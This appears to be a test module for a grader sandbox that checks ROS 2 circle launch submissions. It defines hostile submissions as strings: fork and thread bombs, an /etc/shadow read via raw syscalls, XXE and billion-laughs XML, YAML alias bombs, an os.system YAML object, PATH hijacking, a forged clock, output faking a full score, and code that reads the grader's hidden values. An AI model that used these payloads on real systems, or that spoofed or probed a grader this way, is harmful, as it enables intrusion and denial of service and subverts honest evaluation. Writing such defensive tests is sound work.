"""Hostile submissions of kinds that `payloads.py` does not have: code behind a circle whose node is not told the radius.

The honest rest of each is worth 5 of 12 points. `QUIET` swallows exceptions; `OWN` replaces generate_launch_description.
"""

from __future__ import annotations

from tests.attacks.payloads import quiet

CALLS = """
import ctypes, os
lib = ctypes.CDLL(None, use_errno=True)
key, buffer = 4711, ctypes.create_string_buffer(200)
for words in (
    (68, key, 0o1666), (64, key, 1, 0o1666), (240, b'/x', 0o102, 0o666, None), (248, b'user', b'x', b'12', 2, -3),
    (250, 0, -3, 0, 0, 0), (425, 8, buffer), (321, 0, None, 0), (323, 0), (272, 0x10000000), (165, None, None, None, 0, None),
    (303, -100, b'/etc/shadow', buffer, buffer, 0), (304, -100, None, 0), (430, b'tmpfs', 0), (308, 3, 0), (161, b'.'),
):
    print(words[0], lib.syscall(*words))
for path in ('/dev/shm/x', '/tmp/../dev/shm/x', '/var/tmp/x', '/run/lock/x', '/dev/mqueue/x', '/dev/kmsg', '/dev/tty'):
    try:
        open(path, 'a').write('x')
        print('written', path)
    except OSError:
        pass
"""
DESCRIPTORS = """
import array, os, socket
for fd in range(3, 12):
    try:
        end = socket.socket(fileno=os.dup(fd))
        for _ in range(50):
            end.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [1] * 100))], socket.MSG_DONTWAIT)
    except OSError:
        pass
"""
FLAGS = """
import fcntl, os
for fd in range(12):
    for flag in (os.O_NONBLOCK, os.O_ASYNC, os.O_APPEND):
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, flag)
        except OSError:
            pass
"""
SHUT = """
import os, socket
for fd in range(3, 12):
    try:
        socket.socket(fileno=os.dup(fd)).shutdown(0)
    except OSError:
        pass
"""
SECRETS = """
import gc, sys
known = [vars(each) for each in gc.get_objects() if type(each).__name__ in ('TrustedPeer', 'Trusted', 'TrustedHost')]
frame = sys._getframe()
while frame:
    known += [value for value in frame.f_locals.values() if type(value) is dict and 'wall_s' in value]
    frame = frame.f_back
assert not any({'late', 'sent', 'hidden', 'late_s', '_late_s'} & {*each} for each in known), known
"""
CHILDREN = """
import os
for _ in range(20):
    if os.fork() == 0:
        while True:
            if os.fork() == 0:
                sum(range(10**6))
                os._exit(0)
            os.wait()
"""
THREADS = """
import _thread
def work():
    import rclpy
    from nav_msgs.msg import Odometry
    rclpy.init()
    publisher = rclpy.create_node('odom').create_publisher(Odometry, '/odom', 10)
    while True:
        publisher.publish(Odometry())
for _ in range(4):
    _thread.start_new_thread(work, ())
"""
BYTES = """
import os
os.write(1, bytes(range(256)) * 1000 + b'\\r12 of 12 points\\r' * 10)
print('\\ufffe\\ud800\\x85\\u2028\\u202e' * 10)
"""
OWN = """
import os
from launch.actions import ExecuteProcess, OpaqueFunction
from launch_ros.actions import Node, SetParameter
_given = generate_launch_description


def generate_launch_description():
    description = _given()
    for action in more():
        description.entities.insert(0, action)
    return description


def more():
"""
LOOP = """
    import asyncio

    def break_it(context):
        loop = asyncio.get_event_loop()
        for task in asyncio.all_tasks(loop):
            task.cancel()
        loop.time = lambda: 1e18
        loop.call_soon(loop.stop)
    return [OpaqueFunction(function=break_it)]
"""
BOMB = """
    lines = ''.join(f'    a{n}: &a{n} [' + ', '.join([f'*a{n - 1}'] * 10) + ']\\\\n' for n in range(1, 12))
    texts = [
        '    a0: &a0 [x, x]\\\\n' + lines, '    a: !!python/object/apply:os._exit [0]\\\\n', '    a: ' + '[' * 5000 + ']' * 5000,
    ]
    for number, text in enumerate(texts):
        open(f'{number}.yaml', 'w').write('/**:\\\\n  ros__parameters:\\\\n' + text)
    files = [os.path.abspath(f'{number}.yaml') for number in range(len(texts))]
    return [Node(package='turtlesim', executable='turtlesim_node', name=f's{len(each)}', parameters=[each]) for each in files]
""".replace('\\\\n', '\\n')
NUMBERS = """
    odd = {'a': 10**400, 'b': float('nan'), 'c': float('inf'), 'd': 'x\\\\x00y', 'e': '\\\\u202e' * 100}
    return [Node(package='turtlesim', executable='turtlesim_node', name='odd', parameters=[odd])]
""".replace('\\\\', '\\')
PREFIX = """
    os.makedirs('p/share/ament_index/resource_index/packages')
    os.makedirs('p/lib/part3_beyond_basics')
    open('p/share/ament_index/resource_index/packages/part3_beyond_basics', 'w').close()
    for name in ('p/lib/part3_beyond_basics/param_circle.py', 'p/ros2'):
        open(name, 'w').write('#!/bin/sh\\\\necho mine\\\\n')
        os.chmod(name, 0o755)
    os.environ['AMENT_PREFIX_PATH'] = os.path.abspath('p') + ':' + os.environ['AMENT_PREFIX_PATH']
    os.environ['PATH'] = os.path.abspath('p') + ':' + os.environ['PATH']
    return []
""".replace('\\\\', '\\')
CLOCK = """
    code = '''import rclpy
from rosgraph_msgs.msg import Clock
rclpy.init()
node = rclpy.create_node('clock')
publisher, seen = node.create_publisher(Clock, '/clock', 10), [0]
def tick():
    seen[0] += 1
    message = Clock()
    message.clock.sec = seen[0] * 1000
    publisher.publish(message)
node.create_timer(0.01, tick)
rclpy.spin(node)'''
    return [SetParameter('use_sim_time', True), ExecuteProcess(cmd=['python3', '-c', code])]
"""
PROGRAMS = """
    return [Node(package='demo_nodes_py', executable='talker', name=f'n{number}') for number in range(2100)]
"""
PYTHON = {
    'channels and kernel objects': quiet(CALLS),
    'descriptors over the link': quiet(DESCRIPTORS),
    'flags of all descriptors': quiet(FLAGS),
    'a link that is shut': quiet(SHUT),
    'values that the trusted peer keeps for itself': SECRETS,
    'many short programs': quiet(CHILDREN),
    'an exit by a timer': 'import faulthandler\nfaulthandler.dump_traceback_later(0.2, exit=True)\n',
    'real threads that publish': quiet(THREADS),
    'bytes of all kinds': quiet(BYTES),
    'a broken event loop': OWN + LOOP,
    'parameter files that grow': OWN + BOMB,
    'odd numbers and letters': OWN + NUMBERS,
    'a package and a ros2 of its own': OWN + PREFIX,
    'a clock of its own': OWN + CLOCK,
    'too many programs': OWN + PROGRAMS,
}
ENTITIES = ''.join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
ALIASES = ''.join(f'x{n}: &a{n} [{", ".join([f"*a{n - 1}"] * 10)}]\n' for n in range(1, 10))
TEXTS = {  # (ending, text)
    'entities that grow': (
        'xml',
        f'<!DOCTYPE l [<!ENTITY a0 "lol">{ENTITIES}]>\n<launch><arg name="circle_radius" default="&a9;"/></launch>',
    ),
    'an entity that is a file': (
        'xml',
        '<!DOCTYPE l [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<launch><arg name="circle_radius" default="&e;"/></launch>',
    ),
    'a file that includes itself': ('xml', '<launch><include file="$(dirname)/circle.launch.xml"/></launch>'),
    'fifty thousand groups': ('xml', f'<launch>{"<group>" * 50000}{"</group>" * 50000}</launch>'),
    'a group in itself': ('yaml', 'launch:\n- &a\n  group:\n  - *a\n'),
    'aliases that grow': ('yaml', f'x0: &a0 [x, x]\n{ALIASES}launch: *a9\n'),
    'an object of Python': ('yaml', 'launch:\n- arg: {name: !!python/object/apply:os.system ["id"], default: "1.0"}\n'),
    'twenty thousand brackets': ('yaml', f'launch: {"[" * 20000}{"]" * 20000}'),
}
